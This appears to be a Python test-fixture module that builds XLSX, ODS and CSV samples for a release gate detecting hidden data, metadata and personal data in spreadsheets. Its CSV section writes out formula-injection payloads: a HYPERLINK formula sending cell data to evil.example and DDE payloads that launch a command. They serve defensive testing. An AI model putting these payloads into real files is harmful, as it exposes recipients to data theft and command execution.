# ruff: noqa: E501  (the corpus carries XML written out by hand; its lines are data)
"""Spreadsheets, CSV files and ZIP archives for the release gate, generated at test time.

Each leaky file carries one kind of leak (and a secret string where something is hidden), each clean
file only looks alarming. XLSX files start from openpyxl (creator cleared, as a careful exporter would)
and are then edited part by part where openpyxl cannot write the leak; ODS files come from odfpy.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName

from tests.core.release_check.corpus import CorpusFile, clean, leaky

VISIBLE = ("Rank", "Headcount", "Constable", "Sergeant")
SUMMARY_ROWS = [["Rank", "Headcount"], ["Constable", 1203], ["Sergeant", 245], ["Inspector", 61]]


# ------------------------------------------------------------------ building blocks


def summary_workbook() -> openpyxl.Workbook:
    """The visible answer every XLSX in the corpus shares: headcount by rank, nothing else."""
    workbook = openpyxl.Workbook()
    workbook.properties.creator = None
    sheet = workbook.active
    sheet.title = "Headcount"
    for row in SUMMARY_ROWS:
        sheet.append(row)
    return workbook


def xlsx(edit: Callable[[openpyxl.Workbook], None]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        workbook = summary_workbook()
        edit(workbook)
        workbook.save(path)

    return build


def rewrite_zip(path: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    """Rewrite a ZIP package with ``change`` applied to its {part name: bytes}."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def xlsx_with_parts(extra: dict[str, str | bytes]) -> Callable[[Path], None]:
    """The summary workbook with raw parts added (pivot caches, links, macros ...)."""

    def build(path: Path) -> None:
        summary_workbook().save(path)
        rewrite_zip(
            path,
            lambda parts: parts.update(
                {k: v.encode() if isinstance(v, str) else v for k, v in extra.items()}
            ),
        )

    return build


def xlsx_with_sheet_xml(old: str, new: str, part: str = "xl/worksheets/sheet1.xml") -> Callable[[Path], None]:
    """The summary workbook with its sheet XML edited by a regular expression."""

    def build(path: Path) -> None:
        summary_workbook().save(path)

        def change(parts: dict[str, bytes]) -> None:
            text, count = re.subn(old, new, parts[part].decode(), count=1)
            assert count == 1, f"corpus edit {old!r} did not apply"
            parts[part] = text.encode()

        rewrite_zip(path, change)

    return build


def _hidden_sheet(state: str, secret: str) -> Callable[[openpyxl.Workbook], None]:
    def edit(workbook: openpyxl.Workbook) -> None:
        staff = workbook.create_sheet("Staff")
        staff.append(["Surname", "Service number"])
        staff.append([secret, 40123])
        staff.sheet_state = state

    return edit


def _hidden_row(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet.append(["SECRET-HIDDEN-ROW", 1])
    sheet.row_dimensions[5].hidden = True


def _zero_height_row(path: Path) -> None:
    workbook = summary_workbook()
    workbook.active.append(["SECRET-ZERO-HEIGHT", 1])
    workbook.save(path)

    def change(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet1.xml"]
        parts["xl/worksheets/sheet1.xml"] = sheet.replace(
            b'<row r="5">', b'<row r="5" ht="0" customHeight="1">'
        )

    rewrite_zip(path, change)


def _hidden_column(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet["D1"] = "Surname"
    sheet["D2"] = "SECRET-HIDDEN-COLUMN"
    sheet.column_dimensions["D"].hidden = True


def _collapsed_group(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet.append(["SECRET-IN-GROUP", 2])
    sheet.append(["SECRET-IN-GROUP-2", 3])
    sheet.row_dimensions.group(5, 6, outline_level=1, hidden=True)


def _hidden_name(workbook: openpyxl.Workbook) -> None:
    workbook.defined_names["Reviewer"] = DefinedName(
        "Reviewer", attr_text='"SECRET-HIDDEN-NAME"', hidden=True
    )


def _name_with_data(workbook: openpyxl.Workbook) -> None:
    workbook.defined_names["Note"] = DefinedName("Note", attr_text='"SECRET-NAME-VALUE"')


def _comment(workbook: openpyxl.Workbook) -> None:
    workbook.active["B2"].comment = Comment("SECRET-COMMENT: includes two officers on leave", "J Bloggs")


def _white_text(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet["D3"] = "SECRET-WHITE-TEXT"
    sheet["D3"].font = Font(color="FFFFFF")


def _tiny_text(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet["D3"] = "SECRET-TINY-TEXT"
    sheet["D3"].font = Font(size=1)


def _hidden_format(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet["D3"] = "SECRET-FORMAT-TEXT"
    sheet["D3"].number_format = ";;;"


def _outside_print_area(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet.print_area = "A1:B4"
    sheet["H20"] = "SECRET-OUTSIDE-PRINT"


def _properties(workbook: openpyxl.Workbook) -> None:
    workbook.properties.creator = "SECRET-AUTHOR Jane Officer"
    workbook.properties.lastModifiedBy = "SECRET-AUTHOR Jane Officer"


def _custom_properties(workbook: openpyxl.Workbook) -> None:
    from openpyxl.packaging.custom import StringProperty

    workbook.custom_doc_props.append(StringProperty(name="Reviewer", value="SECRET-CUSTOM-PROPERTY"))


def _personal_data(workbook: openpyxl.Workbook) -> None:
    sheet = workbook.active
    sheet["D1"] = "Contact"
    sheet["D2"] = "JG 10 37 59 A"


def _header(workbook: openpyxl.Workbook) -> None:
    workbook.active.oddHeader.center.text = "SECRET-HEADER prepared by J Bloggs"


def _chart(workbook: openpyxl.Workbook) -> None:
    from openpyxl.chart import BarChart, Reference

    chart = BarChart()
    chart.title = "SECRET-CHART-TITLE"
    chart.add_data(Reference(workbook.active, min_col=2, min_row=1, max_row=4), titles_from_data=True)
    workbook.active.add_chart(chart, "E2")


def _protected(workbook: openpyxl.Workbook) -> None:
    from openpyxl.workbook.protection import WorkbookProtection

    workbook.security = WorkbookProtection(lockStructure=True)


def _very_hidden_and_formula_in_hidden(workbook: openpyxl.Workbook) -> None:
    _hidden_sheet("veryHidden", "SECRET-VERY-HIDDEN")(workbook)


def _validation_list(workbook: openpyxl.Workbook) -> None:
    from openpyxl.worksheet.datavalidation import DataValidation

    rule = DataValidation(type="list", formula1='"Approved,Refused,SECRET-DROPDOWN"')
    rule.add("C2:C4")
    workbook.active.add_data_validation(rule)


def _internal_link(workbook: openpyxl.Workbook) -> None:
    workbook.active["C2"] = "Source"
    workbook.active["C2"].hyperlink = r"\\SECRET-SERVER\hr\staff list.xlsx"


PIVOT_CACHE = '<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><cacheSource type="worksheet"/><cacheFields count="1"><cacheField name="Surname"><sharedItems><s v="SECRET-PIVOT-CACHE"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>'
THREADED = '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment ref="B2" id="{1}" personId="{2}"><text>SECRET-THREADED-COMMENT</text></threadedComment></ThreadedComments>'


def _xlsx_entries() -> list[CorpusFile]:
    return [
        leaky(
            "hidden_sheet.xlsx",
            xlsx(_hidden_sheet("hidden", "SECRET-HIDDEN-SHEET")),
            {"xlsx.hidden_sheet"},
            "SECRET-HIDDEN-SHEET",
            *VISIBLE,
        ),
        leaky(
            "very_hidden_sheet.xlsx",
            xlsx(_very_hidden_and_formula_in_hidden),
            {"xlsx.very_hidden_sheet"},
            "SECRET-VERY-HIDDEN",
            *VISIBLE,
        ),
        leaky("hidden_row.xlsx", xlsx(_hidden_row), {"xlsx.hidden_row"}, "SECRET-HIDDEN-ROW", *VISIBLE),
        leaky("zero_height_row.xlsx", _zero_height_row, {"xlsx.hidden_row"}, "SECRET-ZERO-HEIGHT", *VISIBLE),
        leaky(
            "hidden_column.xlsx",
            xlsx(_hidden_column),
            {"xlsx.hidden_column"},
            "SECRET-HIDDEN-COLUMN",
            *VISIBLE,
        ),
        leaky(
            "zero_width_column.xlsx",
            _zero_width_column,
            {"xlsx.hidden_column"},
            "SECRET-ZERO-WIDTH",
            *VISIBLE,
        ),
        leaky(
            "collapsed_group.xlsx",
            xlsx(_collapsed_group),
            {"xlsx.collapsed_outline"},
            "SECRET-IN-GROUP",
            *VISIBLE,
        ),
        leaky("hidden_name.xlsx", xlsx(_hidden_name), {"xlsx.hidden_name"}, "SECRET-HIDDEN-NAME", *VISIBLE),
        leaky(
            "name_with_data.xlsx",
            xlsx(_name_with_data),
            {"xlsx.name_with_data"},
            "SECRET-NAME-VALUE",
            *VISIBLE,
        ),
        leaky("comment.xlsx", xlsx(_comment), {"xlsx.comment"}, "SECRET-COMMENT", *VISIBLE),
        leaky(
            "threaded_comment.xlsx",
            xlsx_with_parts(
                {
                    "xl/threadedComments/threadedComment1.xml": THREADED,
                    "xl/persons/person.xml": '<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person displayName="SECRET-PERSON" id="{2}"/></personList>',
                }
            ),
            {"xlsx.threaded_comment"},
            "SECRET-THREADED-COMMENT",
            *VISIBLE,
        ),
        leaky(
            "formula_cached.xlsx",
            xlsx_with_sheet_xml(
                r'<c r="B4" t="n"><v>61</v></c>|<c r="B4"[^>]*>.*?</c>',
                '<c r="B4"><f>IF(TRUE,61,"SECRET-IN-FORMULA")</f><v>61</v></c>',
            ),
            {"xlsx.formula"},
            "SECRET-IN-FORMULA",
            *VISIBLE,
        ),
        leaky(
            "external_link.xlsx",
            xlsx_with_parts(
                {
                    "xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>SECRET-EXTERNAL-CACHE</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>'
                }
            ),
            {"xlsx.external_link"},
            "SECRET-EXTERNAL-CACHE",
            *VISIBLE,
        ),
        leaky(
            "pivot_cache.xlsx",
            xlsx_with_parts({"xl/pivotCache/pivotCacheDefinition1.xml": PIVOT_CACHE}),
            {"xlsx.pivot_cache"},
            "SECRET-PIVOT-CACHE",
            *VISIBLE,
        ),
        leaky(
            "pivot_table.xlsx",
            xlsx_with_parts(
                {
                    "xl/pivotTables/pivotTable1.xml": '<pivotTableDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="SECRET-PIVOT-TABLE"/>'
                }
            ),
            {"xlsx.pivot_table"},
            "SECRET-PIVOT-TABLE",
            *VISIBLE,
        ),
        leaky(
            "data_connection.xlsx",
            xlsx_with_parts(
                {
                    "xl/connections.xml": '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="HR"><dbPr connection="Server=SECRET-SQL-SERVER;Database=HR"/></connection></connections>'
                }
            ),
            {"xlsx.data_connection"},
            "SECRET-SQL-SERVER",
            *VISIBLE,
        ),
        leaky(
            "query_table.xlsx",
            xlsx_with_parts(
                {
                    "xl/queryTables/queryTable1.xml": '<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="SECRET-QUERY" connectionId="1"/>'
                }
            ),
            {"xlsx.query_table"},
            "SECRET-QUERY",
            *VISIBLE,
        ),
        leaky(
            "embedded_object.xlsx",
            xlsx_with_parts({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0SECRET-EMBEDDED"}),
            {"xlsx.embedded_object"},
            "SECRET-EMBEDDED",
            *VISIBLE,
        ),
        leaky(
            "embedded_image.xlsx",
            xlsx_with_parts({"xl/media/image1.png": b"\x89PNG\r\n\x1a\nSECRET-IMAGE-BYTES"}),
            {"xlsx.embedded_image"},
            "SECRET-IMAGE-BYTES",
            *VISIBLE,
        ),
        leaky(
            "macro.xlsm",
            xlsx_with_parts({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0SECRET-MACRO-CODE"}),
            {"xlsx.macro"},
            "SECRET-MACRO-CODE",
            *VISIBLE,
        ),
        leaky("white_text.xlsx", xlsx(_white_text), {"xlsx.invisible_text"}, "SECRET-WHITE-TEXT", *VISIBLE),
        leaky("tiny_text.xlsx", xlsx(_tiny_text), {"xlsx.invisible_text"}, "SECRET-TINY-TEXT", *VISIBLE),
        leaky(
            "hidden_number_format.xlsx",
            xlsx(_hidden_format),
            {"xlsx.invisible_text"},
            "SECRET-FORMAT-TEXT",
            *VISIBLE,
        ),
        leaky(
            "outside_print_area.xlsx",
            xlsx(_outside_print_area),
            {"xlsx.outside_print_area"},
            "SECRET-OUTSIDE-PRINT",
            *VISIBLE,
        ),
        leaky("properties.xlsx", xlsx(_properties), {"xlsx.document_properties"}, "SECRET-AUTHOR", *VISIBLE),
        leaky(
            "custom_properties.xlsx",
            xlsx(_custom_properties),
            {"xlsx.custom_properties"},
            "SECRET-CUSTOM-PROPERTY",
            *VISIBLE,
        ),
        leaky("company.xlsx", _company, {"xlsx.document_properties"}, "SECRET-COMPANY", *VISIBLE),
        leaky("personal_data.xlsx", xlsx(_personal_data), {"xlsx.personal_data"}, "JG 10 37 59 A", *VISIBLE),
        leaky(
            "merged_hidden_value.xlsx",
            _merged_hidden_value,
            {"xlsx.merged_hidden_value"},
            "SECRET-UNDER-MERGE",
            *VISIBLE,
        ),
        leaky("header_footer.xlsx", xlsx(_header), {"xlsx.header_footer"}, "SECRET-HEADER", *VISIBLE),
        leaky(
            "white_rich_text_run.xlsx",
            xlsx(_white_run),
            {"xlsx.invisible_text"},
            "SECRET-WHITE-RUN",
            *VISIBLE,
            "Includes secondees",
        ),
        leaky(
            "tiny_shared_string_run.xlsx",
            _shared_white_run,
            {"xlsx.invisible_text"},
            "SECRET-TINY-RUN",
            *VISIBLE,
        ),
        leaky("chart.xlsx", xlsx(_chart), {"xlsx.chart", "xlsx.drawing"}, "SECRET-CHART-TITLE", *VISIBLE),
        leaky("protected.xlsx", xlsx(_protected), {"xlsx.protected"}, None, *VISIBLE),
        leaky(
            "unreferenced_sheet.xlsx",
            xlsx_with_parts(
                {
                    "xl/worksheets/sheet9.xml": '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>SECRET-ORPHAN-SHEET</t></is></c></row></sheetData></worksheet>'
                }
            ),
            {"xlsx.unreferenced_part"},
            "SECRET-ORPHAN-SHEET",
            *VISIBLE,
        ),
        leaky(
            "unknown_part.xlsx",
            xlsx_with_parts({"xl/notes/working.xml": "<notes>SECRET-UNKNOWN-PART</notes>"}),
            {"xlsx.unknown_part"},
            "SECRET-UNKNOWN-PART",
            *VISIBLE,
        ),
        leaky(
            "custom_xml.xlsx",
            xlsx_with_parts({"customXml/item1.xml": "<data>SECRET-CUSTOM-XML</data>"}),
            {"xlsx.custom_xml"},
            "SECRET-CUSTOM-XML",
            *VISIBLE,
        ),
        leaky(
            "thumbnail.xlsx",
            xlsx_with_parts({"docProps/thumbnail.jpeg": b"\xff\xd8\xffSECRET-THUMBNAIL"}),
            {"xlsx.thumbnail"},
            "SECRET-THUMBNAIL",
            *VISIBLE,
        ),
        leaky(
            "revisions.xlsx",
            xlsx_with_parts({"xl/revisions/revisionLog1.xml": "<revisions>SECRET-OLD-VALUE</revisions>"}),
            {"xlsx.revisions"},
            "SECRET-OLD-VALUE",
            *VISIBLE,
        ),
        leaky(
            "validation_list.xlsx",
            xlsx(_validation_list),
            {"xlsx.validation_list"},
            "SECRET-DROPDOWN",
            *VISIBLE,
        ),
        leaky("internal_link.xlsx", xlsx(_internal_link), {"xlsx.internal_path"}, "SECRET-SERVER", *VISIBLE),
        leaky(
            "inline_personal_data.xlsx",
            xlsx_with_sheet_xml(
                r"</sheetData>",
                '<row r="9"><c r="A9" t="inlineStr"><is><t>call 07700 900123</t></is></c></row></sheetData>',
            ),
            {"xlsx.personal_data"},
            "07700 900123",
            *VISIBLE,
        ),
    ]


def _zero_width_column(path: Path) -> None:
    workbook = summary_workbook()
    workbook.active["C2"] = "SECRET-ZERO-WIDTH"
    workbook.save(path)
    rewrite_zip(
        path,
        lambda parts: parts.update(
            {
                "xl/worksheets/sheet1.xml": re.sub(
                    r"<sheetData>",
                    '<cols><col min="3" max="3" width="0" customWidth="1"/></cols><sheetData>',
                    parts["xl/worksheets/sheet1.xml"].decode(),
                    count=1,
                ).encode()
            }
        ),
    )


def _company(path: Path) -> None:
    summary_workbook().save(path)

    def change(parts: dict[str, bytes]) -> None:
        parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
            b"</Properties>", b"<Company>SECRET-COMPANY</Company></Properties>"
        )

    rewrite_zip(path, change)


def _white_run(workbook: openpyxl.Workbook) -> None:
    """Rich text with a white run in a plain cell: openpyxl writes it as an inline string."""
    workbook.active["C2"] = CellRichText(
        ["Includes secondees ", TextBlock(InlineFont(color="FFFFFF"), "SECRET-WHITE-RUN")]
    )


def _shared_white_run(path: Path) -> None:
    """The same run in the shared-string table (as Excel writes rich text), shown by a plain cell."""
    xlsx(lambda workbook: None)(path)

    def change(parts: dict[str, bytes]) -> None:
        sheet = parts["xl/worksheets/sheet1.xml"].decode()
        sheet = sheet.replace(
            '<c r="A3" t="inlineStr"><is><t>Sergeant</t></is></c>', '<c r="A3" t="s"><v>0</v></c>'
        )
        parts["xl/worksheets/sheet1.xml"] = sheet.encode()
        parts["xl/sharedStrings.xml"] = (
            f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><r><t>Sergeant</t></r>'
            '<r><rPr><sz val="1"/></rPr><t>SECRET-TINY-RUN</t></r></si></sst>'
        ).encode()
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            b"</Relationships>",
            f'<Relationship Id="rIdS" Type="{REL_NS}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'.encode(),
        )
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        )

    rewrite_zip(path, change)


def _merged_hidden_value(path: Path) -> None:
    workbook = summary_workbook()
    workbook.active["A6"] = "Total"
    workbook.active["B6"] = "SECRET-UNDER-MERGE"
    workbook.save(path)

    def change(parts: dict[str, bytes]) -> None:
        parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
            b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A6:B6"/></mergeCells>'
        )

    rewrite_zip(path, change)


def _clean_xlsx_entries() -> list[CorpusFile]:
    def comment_column(workbook: openpyxl.Workbook) -> None:
        sheet = workbook.active
        sheet["C1"] = "Comment"
        sheet["C2"] = "Includes officers on secondment"
        sheet["C3"] = "Figures as at 31 March 2023"

    def white_on_dark(workbook: openpyxl.Workbook) -> None:
        for cell in workbook.active[1]:
            cell.font = Font(color="FFFFFF", bold=True)
            cell.fill = PatternFill("solid", fgColor="1F4E79")

    def white_run_on_dark_fill(workbook: openpyxl.Workbook) -> None:
        cell = workbook.active["C1"]
        cell.value = CellRichText(["Note ", TextBlock(InlineFont(color="FFFFFF", b=True), "on a dark band")])
        cell.fill = PatternFill("solid", fgColor="1F4E79")

    def dates_and_money(workbook: openpyxl.Workbook) -> None:
        import datetime as dt

        sheet = workbook.active
        sheet["C1"] = "As at"
        sheet["C2"] = dt.date(2023, 3, 31)
        sheet["D1"] = "Cost"
        sheet["D2"] = 125000.5
        sheet["D2"].number_format = "£#,##0.00"

    def empty_hidden_rows(workbook: openpyxl.Workbook) -> None:
        workbook.active.row_dimensions[10].hidden = True
        workbook.active.column_dimensions["F"].hidden = True

    def autofilter(workbook: openpyxl.Workbook) -> None:
        workbook.active.auto_filter.ref = "A1:B4"

    return [
        clean("clean_summary.xlsx", xlsx(lambda workbook: None), *VISIBLE),
        clean("clean_comment_column.xlsx", xlsx(comment_column), *VISIBLE, "Includes officers on secondment"),
        clean("clean_white_header_on_dark_fill.xlsx", xlsx(white_on_dark), *VISIBLE),
        clean("clean_dates_and_money.xlsx", xlsx(dates_and_money), *VISIBLE),
        clean("clean_white_run_on_dark_fill.xlsx", xlsx(white_run_on_dark_fill), *VISIBLE, "on a dark band"),
        clean("clean_empty_hidden_rows.xlsx", xlsx(empty_hidden_rows), *VISIBLE),
        clean("clean_autofilter.xlsx", xlsx(autofilter), *VISIBLE),
    ]


# ------------------------------------------------------------------ ODS


def ods(edit: Callable[[object, object], None]) -> Callable[[Path], None]:
    """An ODS with the summary table, then ``edit(document, table)`` adds the leak."""

    def build(path: Path) -> None:
        from odf.opendocument import OpenDocumentSpreadsheet
        from odf.table import Table

        document = OpenDocumentSpreadsheet()
        table = Table(name="Headcount")
        for row in SUMMARY_ROWS:
            table.addElement(ods_row(row))
        document.spreadsheet.addElement(table)
        edit(document, table)
        document.save(str(path))

    return build


def ods_row(values: list[object], **attributes: object) -> object:
    from odf.table import TableCell, TableRow
    from odf.text import P

    row = TableRow(**attributes)
    for value in values:
        if isinstance(value, int | float):
            cell = TableCell(valuetype="float", value=value)
        else:
            cell = TableCell(valuetype="string")
        cell.addElement(P(text=str(value)))
        row.addElement(cell)
    return row


def _ods_hidden_sheet(document: object, table: object) -> None:
    from odf.style import Style, TableProperties
    from odf.table import Table

    hidden = Style(name="taHidden", family="table")
    hidden.addElement(TableProperties(display="false"))
    document.automaticstyles.addElement(hidden)  # type: ignore[attr-defined]
    staff = Table(name="Staff", stylename=hidden)
    staff.addElement(ods_row(["SECRET-ODS-HIDDEN-SHEET", 40123]))
    document.spreadsheet.addElement(staff)  # type: ignore[attr-defined]


def _ods_hidden_row(document: object, table: object) -> None:
    table.addElement(ods_row(["SECRET-ODS-HIDDEN-ROW", 1], visibility="collapse"))  # type: ignore[attr-defined]


def _ods_hidden_column(document: object, table: object) -> None:
    from odf.table import TableColumn

    table.insertBefore(TableColumn(numbercolumnsrepeated=2), table.firstChild)  # type: ignore[attr-defined]
    table.insertBefore(TableColumn(visibility="collapse"), table.childNodes[1])  # type: ignore[attr-defined]
    table.childNodes[2].addElement(_ods_cell("SECRET-ODS-HIDDEN-COLUMN"))  # type: ignore[attr-defined]


def _ods_cell(text: str, **attributes: object) -> object:
    from odf.table import TableCell
    from odf.text import P

    cell = TableCell(valuetype="string", **attributes)
    cell.addElement(P(text=text))
    return cell


def _ods_annotation(document: object, table: object) -> None:
    from odf.office import Annotation
    from odf.text import P

    cell = table.childNodes[1].childNodes[1]  # type: ignore[attr-defined]
    note = Annotation()
    note.addElement(P(text="SECRET-ODS-ANNOTATION"))
    cell.addElement(note)


def _ods_formula(document: object, table: object) -> None:
    from odf.table import TableCell
    from odf.text import P

    cell = TableCell(valuetype="float", value=1509, formula='of:=SUM([.B2:.B4])+0*LEN("SECRET-ODS-FORMULA")')
    cell.addElement(P(text="1509"))
    table.childNodes[0].addElement(cell)  # type: ignore[attr-defined]


def _ods_white_text(document: object, table: object) -> None:
    from odf.style import Style, TextProperties

    white = Style(name="ceWhite", family="table-cell")
    white.addElement(TextProperties(color="#ffffff"))
    document.automaticstyles.addElement(white)  # type: ignore[attr-defined]
    table.childNodes[1].addElement(_ods_cell("SECRET-ODS-WHITE", stylename=white))  # type: ignore[attr-defined]


def _ods_meta(document: object, table: object) -> None:
    from odf import dc, meta

    document.meta.addElement(meta.InitialCreator(text="SECRET-ODS-AUTHOR"))  # type: ignore[attr-defined]
    document.meta.addElement(dc.Creator(text="SECRET-ODS-AUTHOR"))  # type: ignore[attr-defined]


def _ods_user_defined(document: object, table: object) -> None:
    from odf import meta

    document.meta.addElement(meta.UserDefined(name="Reviewer", text="SECRET-ODS-CUSTOM"))  # type: ignore[attr-defined]


def _ods_named_expression(document: object, table: object) -> None:
    from odf.table import NamedExpression, NamedExpressions

    names = NamedExpressions()
    names.addElement(NamedExpression(name="Note", expression='of:="SECRET-ODS-NAME"'))
    document.spreadsheet.addElement(names)  # type: ignore[attr-defined]


def _ods_database(document: object, table: object) -> None:
    from odf.table import DatabaseRange, DatabaseRanges, DatabaseSourceSql

    ranges = DatabaseRanges()
    database = DatabaseRange(name="HR", targetrangeaddress="Headcount.A1:Headcount.B4")
    database.addElement(
        DatabaseSourceSql(databasename="SECRET-ODS-DATABASE", sqlstatement="SELECT * FROM staff")
    )
    ranges.addElement(database)
    document.spreadsheet.addElement(ranges)  # type: ignore[attr-defined]


def _ods_pilot(document: object, table: object) -> None:
    from odf.table import DataPilotTable, DataPilotTables

    pilots = DataPilotTables()
    pilots.addElement(DataPilotTable(name="SECRET-ODS-PIVOT", targetrangeaddress="Headcount.D1:Headcount.E4"))
    document.spreadsheet.addElement(pilots)  # type: ignore[attr-defined]


def _ods_personal(document: object, table: object) -> None:
    table.addElement(ods_row(["Contact", "jane.officer@example.police.uk"]))  # type: ignore[attr-defined]


def _ods_covered(document: object, table: object) -> None:
    from odf.table import CoveredTableCell, TableCell, TableRow
    from odf.text import P

    row = TableRow()
    merged = TableCell(valuetype="string", numbercolumnsspanned=2)
    merged.addElement(P(text="Total"))
    covered = CoveredTableCell(valuetype="string")
    covered.addElement(P(text="SECRET-ODS-COVERED"))
    row.addElement(merged)
    row.addElement(covered)
    table.addElement(row)  # type: ignore[attr-defined]


def _ods_macro(path: Path) -> None:
    ods(lambda document, table: None)(path)
    rewrite_zip(
        path, lambda parts: parts.update({"Basic/Standard/Module1.xml": b"<module>SECRET-ODS-MACRO</module>"})
    )


def _ods_entries() -> list[CorpusFile]:
    return [
        leaky(
            "ods_hidden_sheet.ods",
            ods(_ods_hidden_sheet),
            {"ods.hidden_sheet"},
            "SECRET-ODS-HIDDEN-SHEET",
            *VISIBLE,
        ),
        leaky(
            "ods_hidden_row.ods", ods(_ods_hidden_row), {"ods.hidden_row"}, "SECRET-ODS-HIDDEN-ROW", *VISIBLE
        ),
        leaky(
            "ods_hidden_column.ods",
            ods(_ods_hidden_column),
            {"ods.hidden_column"},
            "SECRET-ODS-HIDDEN-COLUMN",
            *VISIBLE,
        ),
        leaky("ods_annotation.ods", ods(_ods_annotation), {"ods.comment"}, "SECRET-ODS-ANNOTATION", *VISIBLE),
        leaky("ods_formula.ods", ods(_ods_formula), {"ods.formula"}, "SECRET-ODS-FORMULA", *VISIBLE),
        leaky(
            "ods_white_text.ods", ods(_ods_white_text), {"ods.invisible_text"}, "SECRET-ODS-WHITE", *VISIBLE
        ),
        leaky("ods_meta.ods", ods(_ods_meta), {"ods.document_properties"}, "SECRET-ODS-AUTHOR", *VISIBLE),
        leaky(
            "ods_user_defined.ods",
            ods(_ods_user_defined),
            {"ods.custom_properties"},
            "SECRET-ODS-CUSTOM",
            *VISIBLE,
        ),
        leaky(
            "ods_named_expression.ods",
            ods(_ods_named_expression),
            {"ods.name_with_data"},
            "SECRET-ODS-NAME",
            *VISIBLE,
        ),
        leaky(
            "ods_database.ods", ods(_ods_database), {"ods.data_connection"}, "SECRET-ODS-DATABASE", *VISIBLE
        ),
        leaky("ods_pivot.ods", ods(_ods_pilot), {"ods.pivot_table"}, "SECRET-ODS-PIVOT", *VISIBLE),
        leaky(
            "ods_personal.ods",
            ods(_ods_personal),
            {"ods.personal_data"},
            "jane.officer@example.police.uk",
            *VISIBLE,
        ),
        leaky(
            "ods_covered.ods",
            ods(_ods_covered),
            {"ods.merged_hidden_value"},
            "SECRET-ODS-COVERED",
            *VISIBLE,
            "Total",
        ),
        leaky("ods_macro.ods", _ods_macro, {"ods.macro"}, "SECRET-ODS-MACRO", *VISIBLE),
        clean("clean_summary.ods", ods(lambda document, table: None), *VISIBLE),
    ]


# ------------------------------------------------------------------ CSV


def text_file(content: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(content.encode(encoding))

    return build


CSV_HEAD = "Rank,Headcount\r\nConstable,1203\r\nSergeant,245\r\n"


def _csv_entries() -> list[CorpusFile]:
    # Formula injection is visible text, not a hidden secret: the copy keeps it, neutralised.
    return [
        leaky(
            "formula_equals.csv",
            text_file(CSV_HEAD + '=HYPERLINK("http://evil.example/?x="&A1),1\r\n'),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_plus.csv",
            text_file(CSV_HEAD + "+cmd|' /C calc'!A0,1\r\n"),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_minus.csv",
            text_file(CSV_HEAD + "-2+3+cmd|' /C calc'!A0,1\r\n"),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_at.csv",
            text_file(CSV_HEAD + "@SUM(1+1)*cmd|' /C calc'!A0,1\r\n"),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_tab.csv",
            text_file(CSV_HEAD + '"\t=1+1",1\r\n'),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "formula_cr.csv",
            text_file(CSV_HEAD + '"\r=1+1",1\r\n'),
            {"csv.formula_injection"},
            None,
            *VISIBLE,
        ),
        leaky(
            "personal_data.csv",
            text_file(CSV_HEAD + "Contact,JG103759A\r\n"),
            {"csv.personal_data"},
            "JG103759A",
            *VISIBLE,
        ),
        leaky(
            "ragged.csv",
            text_file(CSV_HEAD + "Inspector,61,SECRET-EXTRA\r\n"),
            {"csv.ragged_rows"},
            None,
            *VISIBLE,
            "SECRET-EXTRA",
        ),
        leaky(
            "windows_1252.csv",
            text_file(CSV_HEAD + "Cost,£1200\r\n", "cp1252"),
            {"csv.encoding"},
            None,
            *VISIBLE,
            "£1200",
        ),
        clean(
            "clean_negative_numbers.csv",
